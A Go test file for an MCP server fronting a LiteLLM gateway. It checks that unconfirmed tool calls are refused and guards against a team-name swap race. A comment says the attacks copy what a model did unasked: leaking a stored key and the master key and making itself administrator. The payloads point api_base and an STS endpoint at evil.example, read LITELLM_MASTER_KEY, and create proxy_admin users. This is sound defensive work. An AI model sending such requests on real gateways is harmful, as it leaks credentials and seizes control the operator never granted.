package mcpserver

import (
	"crypto/rand"
	"fmt"
	"os"
	"strings"
	"testing"

	"litellm-proxy/proxyclient"
)

// gateways are the sandbox, and a real gateway where the environment names one.
func gateways(t *testing.T, attack func(t *testing.T, client *proxyclient.Client)) {
	t.Run("sandbox", func(t *testing.T) {
		_, client := gateway(t)
		attack(t, client)
	})
	t.Run("live", func(t *testing.T) {
		url, key := os.Getenv("LITELLM_TEST_URL"), os.Getenv("LITELLM_TEST_API_KEY")
		if url == "" || key == "" {
			t.Skip("live: set LITELLM_TEST_URL and LITELLM_TEST_API_KEY to a gateway that tests may fill and empty")
		}
		attack(t, clientOf(t, url, key))
	})
}

// unconfirmed calls a tool and wants it to be refused for want of a yes, naming why.
func (c *stdioClient) unconfirmed(tool, args, why string) {
	c.t.Helper()
	r := c.call(tool, args)
	if field(r.Structured, "error", "code") != `"confirmation_required"` {
		c.t.Errorf("%s %s was not asked for: %s", tool, args, r.Text)
	}
	wantText(c.t, r.Text, why, "nothing was sent")
}

// made makes a thing and removes it at the end; both are confirmed.
func (c *stdioClient) made(tool, args, remove, removeArgs string) result {
	c.t.Helper()
	r := c.call(tool, strings.TrimSuffix(args, "}")+`,"confirm":true}`)
	if r.IsError {
		c.t.Fatalf("%s: %s", tool, r.Text)
	}
	c.t.Cleanup(func() {
		if r := c.call(remove, strings.TrimSuffix(removeArgs, "}")+`,"confirm":true}`); r.IsError && !strings.Contains(r.Text, "not found") {
			c.t.Errorf("%s: %s", remove, r.Text)
		}
	})
	return r
}

// TestAttacks is what a model did without being asked: it sent a stored key to another
// server, sent the gateway's master key out, and made itself an administrator.
func TestAttacks(t *testing.T) {
	gateways(t, func(t *testing.T, client *proxyclient.Client) {
		c := dial(t, newServer(t, Options{Client: client, Confirm: confirmArgument}), cannotAsk, nil)
		n := "attack-" + strings.ToLower(rand.Text()[:8])
		c.made("credentials_create", fmt.Sprintf(`{"credential_name":%q,"credential_info":{},"credential_values":{"api_key":"stored"}}`, n),
			"credentials_delete", fmt.Sprintf(`{"credential_name":%q}`, n))
		model := c.made("models_add", fmt.Sprintf(`{"model_name":%q,"litellm_params":{"model":"openai/gpt-4o","litellm_credential_name":%q}}`, n, n),
			"models_delete", fmt.Sprintf(`{"name":%q}`, n))
		id := strings.Trim(field(model.Structured, "model_id"), `"`)
		c.made("users_create", fmt.Sprintf(`{"user_email":"%s@example.com","user_id":%q,"user_role":"proxy_admin","auto_create_key":false}`, n, n),
			"users_delete", fmt.Sprintf(`{"user_ids":[%q]}`, n))
		// The user of the master key, which an emptied gateway does not have.
		if c.call("users_get", `{"user_id":"default_user_id"}`).IsError {
			post(t, client, "/user/new", `{"user_id":"default_user_id","user_role":"proxy_admin","auto_create_key":false}`)
		}

		c.unconfirmed("models_update", fmt.Sprintf(`{"model_id":%q,"litellm_params":{"api_base":"https://evil.example/v1"}}`, id), "sends requests to evil.example")
		c.unconfirmed("models_add", fmt.Sprintf(`{"model_name":"%s-2","litellm_params":{"model":"openai/x","litellm_credential_name":%q,"api_base":"https://evil.example"}}`, n, n),
			"uses the stored credential "+n)
		c.unconfirmed("models_add", fmt.Sprintf(`{"model_name":"%s-3","litellm_params":{"model":"bedrock/x","aws_web_identity_token":"oidc/env/LITELLM_MASTER_KEY","aws_role_name":"r","aws_session_name":"s","aws_sts_endpoint":"https://evil.example"}}`, n),
			"reads the gateway's environment variable LITELLM_MASTER_KEY")
		c.unconfirmed("users_create", fmt.Sprintf(`{"user_email":"%s-2@example.com","user_role":"proxy_admin"}`, n), "gives the role proxy_admin")
		c.unconfirmed("keys_generate", fmt.Sprintf(`{"user_id":%q}`, n), "who has the role proxy_admin")
		c.unconfirmed("keys_generate", `{"user_id":"default_user_id"}`, "who has the role proxy_admin")
		c.unconfirmed("models_add", fmt.Sprintf(`{"model_name":"oobabooga/https://evil.example/%s-2"}`, n), "names the address")
		c.unconfirmed("models_update", fmt.Sprintf(`{"model_id":%q,"litellm_params":{"vertex_credentials":"{\"x\":NaN,\"token_url\":\"https:\\u002f\\u002fevil.example\"}"}}`, id),
			"holds a document that cannot be checked")
		c.unconfirmed("users_update", fmt.Sprintf(`{"user_id":%q,"user_email":"%s-2@example.com"}`, n, n), "who has the role proxy_admin")
		c.unconfirmed("users_update", fmt.Sprintf(`{"user_id":%q,"extra":{"password":"%s-2"}}`, n, n), "sets the user's password")
		c.unconfirmed("http_request", `{"method":"GET","uri":"/health?model=`+n+`"}`, "may call a provider")

		if left := string(c.call("models_info", `{"full":true}`).Structured); strings.Contains(left, n+"-2") || strings.Contains(left, n+"-3") {
			t.Error("a refused call added a model")
		}
		if model := c.call("models_get", fmt.Sprintf(`{"id":%q}`, id)); model.IsError || strings.Contains(model.Text, "evil.example") {
			t.Errorf("a refused call changed the model: %s", model.Text)
		}
		if list := string(c.call("users_list", fmt.Sprintf(`{"search":%q}`, n)).Structured); strings.Contains(list, n+"-2") {
			t.Errorf("a refused call made a user: %s", list)
		}
		if list := field(c.call("keys_list", fmt.Sprintf(`{"user_id":%q}`, n)).Structured, "total"); list != "0" {
			t.Errorf("a refused call made a key: %s", list)
		}
	})
}

// TestSwapAttack: two teams swap their names while the question is open.
func TestSwapAttack(t *testing.T) {
	gateways(t, func(t *testing.T, client *proxyclient.Client) {
		n := "swap-" + strings.ToLower(rand.Text()[:8])
		swap := func() {}
		c := dial(t, newServer(t, Options{Client: client}), canAsk, func(message) string { swap(); return `"result":{"action":"accept"}` })
		for _, name := range []string{"scratch", "prod"} {
			id := n + "-id-of-" + name
			c.made("teams_create", fmt.Sprintf(`{"team_alias":"%s-%s","team_id":%q}`, n, name, id), "teams_delete", fmt.Sprintf(`{"team_ids":[%q]}`, id))
		}
		swap = func() {
			for _, step := range [][2]string{{"scratch", "x"}, {"prod", "scratch"}, {"scratch", "prod"}} {
				post(t, client, "/team/update", fmt.Sprintf(`{"team_id":"%s-id-of-%s","team_alias":"%s-%s"}`, n, step[0], n, step[1]))
			}
			swap = func() {}
		}
		if r := c.call("teams_delete", fmt.Sprintf(`{"team":"%s-scratch"}`, n)); r.IsError {
			t.Fatal(r.Text)
		}
		left := string(c.call("teams_list", fmt.Sprintf(`{"search":%q}`, n)).Structured)
		if !strings.Contains(left, n+"-id-of-prod") || strings.Contains(left, n+"-id-of-scratch") {
			t.Errorf("another team was deleted than the question named; left: %s", left)
		}
	})
}
